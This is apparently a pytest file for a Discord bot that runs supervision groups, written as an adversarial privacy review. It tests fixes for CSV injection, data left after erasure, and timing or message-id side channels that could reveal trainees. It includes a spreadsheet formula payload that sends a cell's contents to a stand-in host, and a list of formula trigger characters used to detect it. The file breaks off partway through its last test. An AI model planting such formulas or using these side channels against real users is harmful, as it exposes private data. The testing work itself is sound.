"""Privacy in the seams (the second adversarial review), each leak tried as the adversary would (a curious leader, a
trainee, the host with the database, key, logs and backups, Discord) through the emulator."""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from bot.app import BalintBot
from bot.emulator._model import VIEW_CHANNEL
from bot.emulator.emulator import Channel, Emulator, Message, SimMember
from bot.sandbox.timetravel import HANDLER_TASKS
from bot.sandbox.timetravel import TravelClock as Clock
from bot.sandbox.world import GROUP_SETUP, World
from bot.store.backup import write_backup
from bot.store.groups import Group
from tests.e2e.conftest import StartBot

S1 = datetime(2026, 9, 3, 8, 0, tzinfo=UTC)  # Thu 3 Sep, 09:00 BST
S2 = S1 + timedelta(days=7)


# -- leak 4: formulas in the leaders' exports -------------------------------------------------------

FORMULA = '=HYPERLINK("//x/"&A3,"a")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (OWASP's CSV-injection list)."""
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(TRIGGERS)]


async def test_a_nickname_cannot_plant_a_formula_in_the_leaders_csv(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """A trainee named `=HYPERLINK("//x/"&A3,"a")` went unescaped into /attendance group and the
    /group close CSV: a leader who opened it in a spreadsheet sent other trainees' attendance away
    with one click. Every cell starting with = + - @ tab or CR is now written as text."""
    ch = world.channel
    alice, bob = world.trainee("alice"), world.trainee("bob")
    emulator.set_nick(alice, FORMULA)
    emulator.set_nick(bob, "+44 7700 900123")
    await clock.move_to(S1 + timedelta(minutes=2))
    for member in (alice, bob):
        assert "checked in" in (await member.click("I'm here", in_channel=ch)).text
    await clock.move_to(S1 + timedelta(minutes=110))

    r = await world.leader.slash("attendance group", in_channel=ch)
    (name, data) = r.files[0]
    rows = cells(data)
    assert not formulas(rows), formulas(rows)
    names = {row[0] for row in rows[1:]}
    assert "'" + FORMULA in names and "'+44 7700 900123" in names, names  # shown, as text

    asked = await world.leader.slash("group close", in_channel=ch)
    # "building N certificates..." at once; the PDFs take a few seconds on a loaded machine
    r = await world.leader.click("Close the group now", message=asked)
    await clock.settle()
    assert "Closed" in r.text, r.text
    (export,) = [m for m in world.leaders_channel.messages if "is closed" in m.text]
    for name, data in export.files:
        if name.endswith(".csv"):
            rows = cells(data)
            assert not formulas(rows), (name, formulas(rows))
            assert "'" + FORMULA in {row[0] for row in rows[1:]}


# -- leak 3: what /forgetme leaves in the file ------------------------------------------------------

# Kept on purpose after /forgetme (docs/commands.md → Your data): the attendance ledger and its endorsements.
LEDGER_COLUMNS = {
    ("attendance", "user_id"),
    ("presentations", "user_id"),
    ("endorsements", "user_id"),
    ("ledger_lines", "user_id"),
}


def raw_files(bot: BalintBot) -> dict[str, bytes]:
    path = Path(bot.settings.database_path)
    return {
        p.name: p.read_bytes() for p in (path, path.with_name(path.name + "-wal")) if p.exists()
    }


def traces(raw: dict[str, bytes], number: int) -> list[str]:
    """Where a Discord id is in the files: as text (decimal) or as SQLite stores an integer
    (big-endian, 8 bytes for a snowflake)."""
    found = []
    for name, data in raw.items():
        for form, needle in (
            ("decimal", str(number).encode()),
            ("integer", number.to_bytes(8, "big", signed=True)),
        ):
            if needle in data:
                found.append(f"{number} as {form} in {name}")
    return found


def cells_naming(bot: BalintBot, number: int) -> list[tuple[str, str]]:
    """Every (table, column) whose value is the id, or text containing it."""
    conn = sqlite3.connect(bot.settings.database_path)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        found = []
        for table in tables:
            for column in [r[1] for r in conn.execute(f"PRAGMA table_info({table})")]:
                hit = conn.execute(
                    f'SELECT 1 FROM "{table}" WHERE "{column}" = ? OR '
                    f'instr(CAST("{column}" AS TEXT), ?) > 0 LIMIT 1',
                    (number, str(number)),
                ).fetchone()
                if hit:
                    found.append((table, column))
        return found
    finally:
        conn.close()


async def forget(member: SimMember, world: World) -> None:
    r = await member.slash("forgetme", in_channel=world.channel)
    done = await member.click("Erase my data", message=r)
    assert "Erased" in done.text, done.text


# The first session's nudge fell due before the group was set up (so nobody gets it): the
# second session's, with the first skipped so that no session meets before.
NUDGES_OUT = S1 + timedelta(days=7) - timedelta(hours=48) + timedelta(minutes=1)


async def test_forgetme_leaves_no_trace_of_a_nudged_member_in_the_file(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """The nudge ("nobody is told who") went by DM, and the delivery ledger kept the last DM's
    channel: a DM channel names its recipient to anyone with the bot's token, and it stayed after
    /forgetme. Each nudged member erases their data before any session: neither their id nor
    their DM channel may be left in the database file or its write-ahead log, in any form."""
    ch = world.channel
    r = await world.leader.slash("schedule skip", in_channel=ch, date="2026-09-03")
    assert "skipped" in r.text, r.text
    await clock.move_to(NUDGES_OUT)
    await clock.settle()
    nudged = [t for t in world.trainees if any("gentle, private note" in m.text for m in t.inbox)]
    assert nudged, "nobody was nudged"
    for member in nudged:
        await member.slash("reflect on", in_channel=ch)
        await member.slash("attendance name", in_channel=ch, name=f"Dr {member.name.title()}")
        await forget(member, world)
    await clock.settle()
    await bot.db.forgotten()
    raw = raw_files(bot)
    for member in nudged:
        assert not traces(raw, member.id), traces(raw, member.id)
        dm = emulator.dm_channel(member.user).id
        assert not traces(raw, dm), (member.name, traces(raw, dm))


async def test_forgetme_leaves_only_the_ledger_after_prompts_offers_and_reflections(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """After a session: alice's reflection prompt and carol's reserve offer went by DM (the
    ledger kept the DM channels). After /forgetme their DM channels are nowhere in the files, and
    their ids only in the attendance ledger kept on purpose."""
    ch = world.channel
    alice, bob, carol = world.trainee("alice"), world.trainee("bob"), world.trainee("carol")
    await alice.slash("reflect on", in_channel=ch)
    for member in (bob, carol):  # one case slot: carol is the reserve
        r = await member.slash("volunteer", in_channel=ch, session="2026-09-03")
        assert r.ephemeral, r.text
    await clock.move_to(S1 + timedelta(minutes=2))
    for member in (alice, bob, carol):
        assert "checked in" in (await member.click("I'm here", in_channel=ch)).text
    await clock.move_to(S1 + timedelta(minutes=110))
    await clock.settle()
    assert [m for m in alice.inbox if "A moment to reflect" in m.text]
    assert [m for m in carol.inbox if "weren't reached" in m.text]
    for member in (alice, carol):
        await forget(member, world)
    await clock.settle()
    await bot.db.forgotten()
    raw = raw_files(bot)
    for member in (alice, carol):
        dm = emulator.dm_channel(member.user).id
        assert not traces(raw, dm), (member.name, traces(raw, dm))
        assert not cells_naming(bot, dm), (member.name, cells_naming(bot, dm))
        left = set(cells_naming(bot, member.id)) - LEDGER_COLUMNS
        assert not left, (member.name, left)


async def test_forgetme_leaves_no_trace_of_a_leader_in_the_file(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """The same for a leader: what they did (a correction, an agenda, a skipped week, the
    presenter's record, an endorsement) stays, without their id; their leaders' channel is one
    a trainee can read, so the notices came by DM, the presenting prompt recorded as a timed
    post. Neither their id nor their DM channel is left in the file or its log."""
    ch, lewis = world.channel, world.coleader
    world.leaders_channel.set_member_overwrite(world.trainee("bob"), allow=VIEW_CHANNEL)
    alice = world.trainee("alice")
    assert "down to present" in (await alice.slash("volunteer", in_channel=ch)).text
    await lewis.slash("agenda set", in_channel=ch, session="2026-09-10")
    r = await lewis.submit_modal({"agenda_text": "Two cases today."})
    assert "Saved" in r.text, r.text
    r = await lewis.slash("schedule skip", in_channel=ch, date="2026-10-29")
    assert r.ephemeral, r.text
    await clock.move_to(S1 + timedelta(minutes=80))
    prompt = [m for m in lewis.inbox if "Who presented" in m.text][-1]
    await lewis.click("Confirm as scheduled", message=prompt)
    r = await lewis.slash(
        "attendance mark", in_channel=ch, member=alice, date="2026-09-03", status="late"
    )
    assert r.ephemeral, r.text
    r = await lewis.slash("attendance endorse", in_channel=ch, member=alice)
    assert r.ephemeral, r.text
    await forget(lewis, world)
    await clock.settle()
    await bot.db.forgotten()
    raw = raw_files(bot)
    assert not traces(raw, lewis.id), traces(raw, lewis.id)
    dm = emulator.dm_channel(lewis.user).id
    assert not traces(raw, dm), traces(raw, dm)


# -- leak 1: a leaders' channel the trainees can read -----------------------------------------------


async def test_a_leaders_channel_anyone_can_read_is_refused_at_setup_and_edit(
    bot: BalintBot, world: World, clock: Clock
) -> None:
    """/group setup took #general as the leaders' channel without a word: drift-away alerts and
    the year's exports would have been posted where every trainee reads. Now it is refused, with
    what to do, at set-up and at /group edit; a private channel is taken."""
    ch, leader = world.channel, world.leader
    world.channel.set_member_overwrite(world.trainee_role, allow=VIEW_CHANNEL)
    common: dict[str, Any] = dict(
        channel=ch, leader_role=world.leader_role, trainee_role=world.trainee_role
    )
    r = await leader.slash("group setup", **common, leaders_channel=world.general, **GROUP_SETUP)
    assert r.ephemeral and "Group set up" not in r.text, r.text
    assert world.general.mention in r.text and "View Channel" in r.text, r.text
    assert await bot.db.fetchval("SELECT count(*) FROM groups") == 0

    trainees_may = world.guild.create_text_channel("leaders-and-trainees")
    trainees_may.set_member_overwrite(world.guild.everyone, deny=VIEW_CHANNEL)
    trainees_may.set_member_overwrite(world.trainee_role, allow=VIEW_CHANNEL)
    r = await leader.slash("group setup", **common, leaders_channel=trainees_may, **GROUP_SETUP)
    assert "Group set up" not in r.text and trainees_may.mention in r.text, r.text

    r = await leader.slash("group setup", **common, **GROUP_SETUP)  # no leaders' channel: DMs
    assert "Group set up" in r.text, r.text
    one_trainee = world.guild.create_text_channel("leaders-and-bob")
    one_trainee.set_member_overwrite(world.guild.everyone, deny=VIEW_CHANNEL)
    one_trainee.set_member_overwrite(world.trainee("bob"), allow=VIEW_CHANNEL)
    for open_channel in (world.general, trainees_may, one_trainee):
        r = await leader.slash("group edit", in_channel=ch, leaders_channel=open_channel)
        assert r.ephemeral and "Updated" not in r.text, r.text
        assert open_channel.mention in r.text, r.text
    assert await bot.db.fetchval("SELECT leaders_channel_id FROM groups") is None
    r = await leader.slash("group edit", in_channel=ch, leaders_channel=world.leaders_channel)
    assert "Updated" in r.text, r.text


async def test_when_trainees_can_read_the_leaders_channel_its_posts_go_to_the_leaders_privately(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """Set up with a private leaders' channel; later someone lets one trainee read it. The
    presenting notices, the drift-away alerts (naming trainees and their missed dates) and the
    year's exports at /group close then went there. Checked again before each post: they go to
    each leader privately, and each leader is told once why."""
    ch, leaders_ch = world.channel, world.leaders_channel
    bob = world.trainee("bob")
    leaders_ch.set_member_overwrite(bob, allow=VIEW_CHANNEL)
    before = len(leaders_ch.messages)

    await clock.move_to(S1 - timedelta(hours=2) + timedelta(minutes=1))  # no case yet: an alert
    for start in (S1, S2):  # nobody checks in twice: a drift-away alert for each trainee
        await clock.move_to(start + timedelta(minutes=2))
        await clock.move_to(start + timedelta(minutes=110))
    asked = await world.leader.slash("group close", in_channel=ch)
    r = await world.leader.click("Close the group now", message=asked)
    await clock.settle()  # "building N certificates...", then the exports
    assert "sent to each leader privately" in r.text, r.text

    assert not leaders_ch.messages[before:], [m.text[:80] for m in leaders_ch.messages[before:]]
    for leader in (world.leader, world.coleader):
        texts = [m.text for m in leader.inbox]
        assert [t for t in texts if "No case yet" in t], texts
        assert [t for t in texts if "in a row" in t and bob.mention in t], texts
        assert [m for m in leader.inbox if "is closed" in m.text and m.files]
        why = [t for t in texts if leaders_ch.mention in t and "View Channel" in t]
        assert len(why) == 1, why


# -- leak 2: the order and spacing of deletions -------------------------------------------------

EXPIRY = S1 + timedelta(minutes=75) + timedelta(hours=24, minutes=1)  # 24 h after session 1


def record_deletions(emulator: Emulator) -> list[tuple[float, bool, int]]:
    """Every message deletion as it happens: (when, seen by the leaders, message id). A leader's
    client gets MESSAGE_DELETE for the channels they can read, with its arrival time; the
    authors' private messages they never see."""
    seen: list[tuple[float, bool, int]] = []
    delete = emulator.delete_message

    def spy(msg: Message, *, announce: bool = True) -> None:
        seen.append((time.monotonic(), msg.guild_id is not None, msg.id))
        delete(msg, announce=announce)

    emulator.delete_message = spy  # type: ignore[method-assign]  # a spy on this emulator only
    return seen


@pytest.mark.parametrize("how", ["expiry", "skipped session", "group close"])
async def test_what_leaders_see_deleted_does_not_depend_on_the_authors_dms(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator, how: str
) -> None:
    """Expiry deleted each draft's messages in id order: its card, then the author's DMs about
    it, then the leaders' "asked the author" post. A leader recording delete events saw a longer
    gap between a card and its post when the author's DMs were deleted in between: whose DMs are
    open named the author. Now every message the leaders can see goes first, in one shuffled
    batch, and the authors' DMs after it."""
    alice, bob, carol = world.trainee("alice"), world.trainee("bob"), world.trainee("carol")
    alice.dms_open = False
    themes = {
        alice: "When she cries I go numb",
        bob: "I feel like his jailer",
        carol: "When I want to rescue her",
    }
    for member, theme in themes.items():
        await member.slash("draft new", in_channel=world.channel, session="2026-09-03")
        r = await member.submit_modal({"theme": theme, "body": f"{theme}, and I do not know why."})
        assert "Saved" in r.text, r.text
    await clock.move_to(datetime(2026, 9, 1, 10, 0, 30, tzinfo=UTC))  # the round
    for theme in themes.values():
        card = [m for m in world.leaders_channel.messages if m.embeds and theme in m.text][-1]
        await world.leader.click("Ask the author", card)
        await world.leader.submit_modal({"question": "How long have you known them?"})
    await clock.settle()
    for member in (bob, carol):  # two authors with DMs: they cannot both be deleted last
        assert [m for m in member.inbox if "How long have you known them?" in m.text]
    await clock.move_to(datetime(2026, 9, 1, 11, 0, 30, tzinfo=UTC))  # the posts are out

    deletions = record_deletions(emulator)
    if how == "expiry":
        await clock.move_to(EXPIRY)
    elif how == "skipped session":
        r = await world.leader.slash("schedule skip", in_channel=world.channel, date="2026-09-03")
        assert r.ephemeral, r.text
    else:
        asked = await world.leader.slash("group close", in_channel=world.channel)
        r = await world.leader.click("Close the group now", message=asked)
        await clock.settle()  # "building N certificates...", then the close
        assert "Closed" in r.text, r.text
    await clock.settle()
    assert await bot.db.fetchval("SELECT count(*) FROM drafts") == 0

    order = [leaders for _, leaders, _ in deletions]
    assert order.count(False) >= 2, "bob's and carol's DMs were not deleted"
    assert order.count(True) >= 6, order  # three cards, three "asked the author" posts
    first_private = order.index(False)
    assert all(order[:first_private]) and not any(order[first_private:]), (
        "an author's DM was deleted among the messages the leaders see go",
        order,
    )


# -- suspicions --------------------------------------------------------------------------------------


def record_events(emulator: Emulator) -> list[tuple[str, bool, int]]:
    """Every message created or deleted, in order: (what, seen by the leaders, message id).
    The leaders see what happens in server channels; members' private messages they never do."""
    seen: list[tuple[str, bool, int]] = []
    create, delete = emulator.create_message, emulator.delete_message

    def created(chan: Channel, *args: Any, **kwargs: Any) -> Message:
        msg = create(chan, *args, **kwargs)
        seen.append(
            ("created", msg.guild_id is not None or msg.ephemeral_user_id is not None, msg.id)
        )
        return msg

    def deleted(msg: Message, *, announce: bool = True) -> None:
        seen.append(("deleted", msg.guild_id is not None, msg.id))
        delete(msg, announce=announce)

    # spies on this emulator only
    emulator.create_message, emulator.delete_message = created, deleted  # type: ignore[method-assign]
    return seen


async def test_at_close_nothing_private_happens_between_what_the_leaders_see(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """Suspicion 1, proven: /group close sent each author's reflective log (a PDF made for each)
    between the leaders' export post and the closing message, and deleted the authors' DMs about
    drafts there too: the gap told a leader how many trainees kept a log (or had DMs open).
    Now every private message (logs sent, draft DMs deleted) comes after everything the leaders
    see of the close: the exports, the cards going, the closing message and their answer."""
    ch = world.channel
    alice, bob, carol, dan = (world.trainee(n) for n in ("alice", "bob", "carol", "dan"))
    await clock.move_to(S1 + timedelta(minutes=1))
    for member in (alice, bob, carol):
        await member.slash("reflect write", in_channel=ch)
        assert "Saved" in (await member.submit_modal({"noticed": "My shoulders rose"})).text
    await dan.slash("draft new", in_channel=ch, session="2026-09-10")
    r = await dan.submit_modal({"theme": "I feel like his jailer", "body": "I feel cruel."})
    assert "Saved" in r.text, r.text
    await clock.move_to(datetime(2026, 9, 3, 10, 0, 30, tzinfo=UTC))  # the round
    card = [m for m in world.leaders_channel.messages if m.embeds][-1]
    await world.leader.click("Ask the author", card)
    await world.leader.submit_modal({"question": "How long have you known them?"})
    await clock.settle()
    assert [m for m in dan.inbox if "How long have you known them?" in m.text]
    bob.dms_open = False  # his log is kept for him instead

    events = record_events(emulator)
    asked = await world.leader.slash("group close", in_channel=ch)
    r = await world.leader.click("Close the group now", message=asked)
    await clock.settle()
    assert "Closed" in r.text, r.text
    assert [m for m in alice.inbox if "reflective log to keep" in m.text]
    assert [m for m in carol.inbox if "reflective log to keep" in m.text]
    kinds = [(what, leaders) for what, leaders, _ in events]
    assert ("created", False) in kinds and ("deleted", False) in kinds, kinds
    assert ("deleted", True) in kinds, kinds  # the card
    last_seen = max(i for i, (_, leaders) in enumerate(kinds) if leaders)
    first_private = min(i for i, (_, leaders) in enumerate(kinds) if not leaders)
    assert last_seen < first_private, kinds
    closing = [m for m in ch.messages if "end of its year" in m.text]
    assert closing and "reflective log" in closing[0].text


SESSION_1_END = S1 + timedelta(minutes=75)
REMINDER_DUE = SESSION_1_END + timedelta(hours=48)


async def test_a_reminders_time_says_nothing_of_how_many_were_reminded(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """Suspicion 2, proven: the feedback reminders left one after another from their due time,
    a paced DM each: a trainee whose reminder came k sends after the hour knew at least k others
    had not answered (and two comparing theirs, more), while the poll shows no count at all. Now
    each reminder waits its own random delay, drawn alone over a window
    (`[feedback] reminder_window_minutes`, 30), so its time depends on nothing else."""
    from discord.utils import snowflake_time

    from tests.e2e.test_privacy_leaks import answer_pulse

    await clock.move_to(SESSION_1_END + timedelta(minutes=1))  # the pulse is up
    await answer_pulse(world.trainee("alice"), 4, in_channel=world.channel)
    await clock.move_to(REMINDER_DUE - timedelta(minutes=1))
    clock.step = True  # each due time in turn, as a real day passes
    await clock.move_to(REMINDER_DUE + timedelta(minutes=45))
    clock.step = False
    reminders = {
        t.name: [m for m in t.inbox if "gentle reminder" in m.text] for t in world.trainees
    }
    assert not reminders["alice"]
    assert all(len(r) == 1 for name, r in reminders.items() if name != "alice"), reminders
    offsets = sorted(
        (snowflake_time(r[0].id) - REMINDER_DUE).total_seconds()
        for name, r in reminders.items()
        if name != "alice"
    )
    assert offsets[0] >= 0 and offsets[-1] <= 30 * 60 + 5, offsets  # within the window
    # a queue from the due time puts them all within a second or two, in sends' steps
    assert offsets[-1] - offsets[0] > 60, offsets


@pytest.mark.parametrize("gone", ["left the roster", "used /forgetme"])
async def test_an_old_reflection_prompt_adds_nothing_once_its_trainee_has_gone(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator, gone: str
) -> None:
    """Suspicion 3, proven: the prompt's "Write a reflection" button and its form did not look
    at the roster again: a trainee taken off it, or who had erased her data with /forgetme,
    could still add entries from an old prompt, stored under her id after her erasure. Now the
    button and the form both check that she is still a trainee of the group."""
    ch = world.channel
    alice = world.trainee("alice")
    await alice.slash("reflect on", in_channel=ch)
    await clock.move_to(S1 + timedelta(minutes=2))
    assert "checked in" in (await alice.click("I'm here", in_channel=ch)).text
    await clock.move_to(S1 + timedelta(minutes=110))
    (prompt,) = [m for m in alice.inbox if "A moment to reflect" in m.text]
    opened = await alice.click("Write a reflection", message=prompt)  # a form, left open
    assert opened.modal is not None
    if gone == "left the roster":
        r = await world.leader.slash("group members remove", in_channel=ch, member=alice)
        assert "has left the roster" in r.text, r.text
    else:
        await forget(alice, world)
    r = await alice.submit_modal({"noticed": "My shoulders rose when he spoke"})
    assert r.ephemeral and "Saved" not in r.text and "roster" in r.text, r.text
    r = await alice.click("Write a reflection", message=prompt)
    assert r.modal is None and "roster" in r.text, r.text
    assert await bot.db.fetchval("SELECT count(*) FROM reflections") == 0


async def test_an_old_followup_question_adds_nothing_once_its_presenter_has_left(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """The same class as suspicion 3: weeks after presenting, the follow-up question's "Yes"
    button put an update slot in the next agenda, with her name, for a trainee taken off the
    roster since. It checks the roster now."""
    ch = world.channel
    alice = world.trainee("alice")
    r = await alice.slash("volunteer", in_channel=ch, session="2026-09-03")
    assert "down to present" in r.text, r.text
    await clock.move_to(S1 + timedelta(minutes=80))
    prompt = [m for m in world.leaders_channel.messages if "Who presented" in m.text][-1]
    await world.leader.click("Confirm as scheduled", message=prompt)
    await clock.move_to(datetime(2026, 10, 15, 9, 16, tzinfo=UTC))  # six weeks on
    (asked,) = [m for m in alice.inbox if "short update on that case" in m.text]
    r = await world.leader.slash("group members remove", in_channel=ch, member=alice)
    assert "has left the roster" in r.text, r.text
    r = await alice.click("Yes, I'd like to", message=asked)
    assert "short slot" not in r.text and "roster" in r.text, r.text
    assert await bot.db.fetchval("SELECT count(*) FROM followups WHERE answer = 'yes'") == 0


async def test_renew_setup_and_edit_check_the_trainee_role_as_set_up_checks_the_leader_role(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """Suspicion 4, proven: /group renew took any trainee role. The leader role itself made
    every leader-role holder a "trainee" of the new year's settings, and @everyone (accepted by
    set-up and /group edit too) put the whole server, the outsider included, on the closed
    roster: they get the group's private messages, drafts' questions, the feedback. The trainee
    role is checked now wherever it is given."""
    ch, everyone = world.channel, world.guild.everyone
    r = await world.leader.slash("group edit", in_channel=ch, trainee_role=everyone)
    assert "Updated" not in r.text and "@everyone" in r.text, r.text
    asked = await world.leader.slash("group close", in_channel=ch)
    r = await world.leader.click("Close the group now", message=asked)
    await clock.settle()
    assert "Closed" in r.text, r.text
    dates: dict[str, Any] = dict(start_date="2027-09-02", end_date="2028-07-27")
    for role in (everyone, world.leader_role):
        r = await world.leader.slash("group renew", in_channel=ch, trainee_role=role, **dates)
        assert "Next year's group is set up" not in r.text, r.text
        assert "trainee role" in r.text, r.text
    assert await bot.db.fetchval("SELECT count(*) FROM groups") == 0
    other = world.guild.create_text_channel("balint-friday")
    other.set_member_overwrite(world.leader_role, allow=1 << 4)  # Manage Channels
    r = await world.leader.slash(
        "group setup",
        channel=other,
        leader_role=world.leader_role,
        trainee_role=everyone,
        **GROUP_SETUP,
    )
    assert "Group set up" not in r.text and "@everyone" in r.text, r.text
    r = await world.leader.slash("group renew", in_channel=ch, **dates)  # last year's role: fine
    assert "Next year's group is set up" in r.text, r.text
    r = await world.outsider.slash("group members list", in_channel=ch)
    assert f"<@{world.outsider.id}>" not in r.text


async def test_a_backup_keeps_no_message_id_that_finds_an_author_in_their_dms(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator, tmp_path: Path
) -> None:
    """Suspicion 5, proven: `db backup` gives open drafts a fresh salt and handle, but kept the
    ids of the messages sent to their authors (recorded without a channel, to delete them at
    expiry). Whoever holds a backup and the bot's token can open each member's DM channel and ask
    Discord for that message id: the member whose DM has it wrote the draft. The copy keeps no
    such id now (a restored bot could not find the author to delete them anyway)."""
    from bot.store import backup

    alice = world.trainee("alice")
    await alice.slash("draft new", in_channel=world.channel, session="2026-09-03")
    r = await alice.submit_modal({"theme": "When she cries I go numb", "body": "I go numb."})
    assert "Saved" in r.text, r.text
    await clock.move_to(datetime(2026, 9, 1, 10, 0, 30, tzinfo=UTC))  # the round
    card = [m for m in world.leaders_channel.messages if m.embeds][-1]
    await world.leader.click("Ask the author", card)
    await world.leader.submit_modal({"question": "How long have you known them?"})
    await clock.settle()
    assert [m for m in alice.inbox if "How long have you known them?" in m.text]

    copy = await backup.backup(bot.db, tmp_path / "backup.sqlite3")
    conn = sqlite3.connect(copy)
    try:
        ids = [r[0] for r in conn.execute("SELECT message_id FROM draft_messages")]
        assert conn.execute("SELECT count(*) FROM drafts").fetchone()[0] == 1  # the draft stays
    finally:
        conn.close()
    # GET /channels/{each member's DM}/messages/{id}, as the token allows
    found = [
        member.name
        for member in world.everyone
        for message_id in ids
        if emulator.dm_channel(member.user).get(message_id) is not None
    ]
    assert not found, found


async def test_the_live_file_keeps_no_message_id_that_finds_an_author_in_their_dms(
    bot: BalintBot, world: World, group: Group, clock: Clock, emulator: Emulator
) -> None:
    """What remained after suspicion 5: while a draft is open the live file kept the ids of
    the DMs sent to its author (to delete them at expiry). Whoever holds the file and the bot's
    token, but not the key, could ask each member's DM channel for them and find the author.
    Now they are sealed under the key and the draft's salt: the file and its -wal hold no such
    id, as decimal or as SQLite stores an integer, and no stored number finds a DM; the bot,
    with the key, still deletes them at expiry."""
    alice = world.trainee("alice")
    await alice.slash("draft new", in_channel=world.channel, session="2026-09-03")
    r = await alice.submit_modal({"theme": "When she cries I go numb", "body": "I go numb."})
    assert "Saved" in r.text, r.text
    await clock.move_to(datetime(2026, 9, 1, 10, 0, 30, tzinfo=UTC))  # the round
    card = [m for m in world.leaders_channel.messages if m.embeds][-1]
    await world.leader.click("Ask the author", card)
    await world.leader.submit_modal({"question": "How long have you known them?"})
    await clock.settle()
    dm = emulator.dm_channel(alice.user)
    about = [m for m in alice.inbox if "How long have you known them?" in m.text]
    assert about, "the question did not reach the author"

    # the file, its -wal, and GET /channels/{each member's DM}/messages/{n} for every number in it
    await nothing_finds(bot, world, emulator, [m.id for m in about])

    await clock.move_to(EXPIRY)
    await clock.settle()
    assert await bot.db.fetchval("SELECT count(*) FROM drafts") == 0
    kept = [dm.get(m.id) for m in about]
    assert all(msg is not None and msg.deleted for msg in kept), "the author's DMs were not deleted"


def reminders_of(world: World) -> dict[str, list[Message]]:
    return {t.name: [m for m in t.inbox if "gentle reminder" in m.text] for t in world.trainees}


async def test_a_restart_within_the_reminders_half_hour_loses_none_and_repeats_none(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """What remained after suspicion 2: who was still to be reminded lived only in the running
    bot's memory, so a restart within the half hour lost every reminder not yet sent. Now each
    trainee's time is drawn from the key and the poll's salt and the turns go in that order,
    the last one taken written down: after a restart the rest still go, once each, never to
    whoever answered (alice before the reminders, bob in the middle of them)."""
    from discord.utils import snowflake_time

    from tests.e2e.test_privacy_leaks import answer_pulse

    alice, bob = world.trainee("alice"), world.trainee("bob")
    await clock.move_to(SESSION_1_END + timedelta(minutes=1))  # the pulse is up
    await answer_pulse(alice, 4, in_channel=world.channel)
    await clock.move_to(REMINDER_DUE - timedelta(minutes=1))
    clock.step = True
    await clock.move_to(REMINDER_DUE + timedelta(minutes=5))
    clock.step = False
    await answer_pulse(bob, 3, in_channel=world.channel)
    answered = datetime.now(UTC)
    before = sum(len(r) for r in reminders_of(world).values())
    await bot.close()  # within the half hour

    await clock.move_to(REMINDER_DUE + timedelta(minutes=6))
    bot = await start_bot()
    clock.step = True
    await clock.move_to(REMINDER_DUE + timedelta(hours=2))
    clock.step = False
    reminders = reminders_of(world)
    assert not reminders["alice"], reminders["alice"]
    assert all(snowflake_time(m.id) < answered for m in reminders["bob"]), "bob, after answering"
    others = {name: len(r) for name, r in reminders.items() if name not in ("alice", "bob")}
    assert set(others.values()) == {1}, others
    assert sum(len(r) for r in reminders.values()) > before  # some went after the restart


async def test_a_reminder_cut_off_as_it_went_is_not_sent_again_after_a_long_stop(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """The bot dies just after a reminder went out, before it learnt so, and comes back long
    after Discord stopped recognising the nonce: the turn was written before the send, so the
    bot looks in that trainee's messages first and does not remind them twice; the turns to
    come go from the restart on, spaced as they were, each once."""
    from tests.e2e.test_dm_once import die_while_sending
    from tests.e2e.test_privacy_leaks import answer_pulse

    await clock.move_to(SESSION_1_END + timedelta(minutes=1))
    await answer_pulse(world.trainee("alice"), 4, in_channel=world.channel)
    await clock.move_to(REMINDER_DUE + timedelta(seconds=1))  # planned; the first turn to come
    before = sum(len(r) for r in reminders_of(world).values())
    clock.traveller.move_to(REMINDER_DUE + timedelta(minutes=31))  # every turn is due now
    bot.scheduler.wakeup()
    await die_while_sending(bot, emulator, r"/channels/\d+/messages$", applied=True)
    assert sum(len(r) for r in reminders_of(world).values()) == before + 1  # it went out

    await clock.move_to(REMINDER_DUE + timedelta(hours=3))
    bot = await start_bot()
    clock.step = True
    await clock.move_to(REMINDER_DUE + timedelta(hours=4))
    clock.step = False
    reminders = reminders_of(world)
    assert not reminders["alice"]
    assert {name: len(r) for name, r in reminders.items() if name != "alice"} == {
        t.name: 1 for t in world.trainees if t.name != "alice"
    }


# -- the third review: the reminders' turns, their DMs after the close ------------------------------

POLL_CLOSES = SESSION_1_END + timedelta(hours=72)


async def test_no_reminder_goes_after_the_poll_closed_when_the_bot_comes_back_late(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """Tried in the third review: stop the bot within the reminders' half hour and start it
    again after the poll's close time, so that the turns still to come are planned from the
    restart on. Not a leak (the close catches up first), and kept as a guard: the close deletes
    the reminders once, so none may go after it."""
    from discord.utils import snowflake_time

    from tests.e2e.test_privacy_leaks import answer_pulse

    await clock.move_to(SESSION_1_END + timedelta(minutes=1))
    await answer_pulse(world.trainee("alice"), 4, in_channel=world.channel)
    await clock.move_to(REMINDER_DUE - timedelta(minutes=1))
    clock.step = True
    await clock.move_to(REMINDER_DUE + timedelta(minutes=3))
    clock.step = False
    await bot.close()

    await clock.move_to(POLL_CLOSES + timedelta(hours=2))
    bot = await start_bot()
    clock.step = True
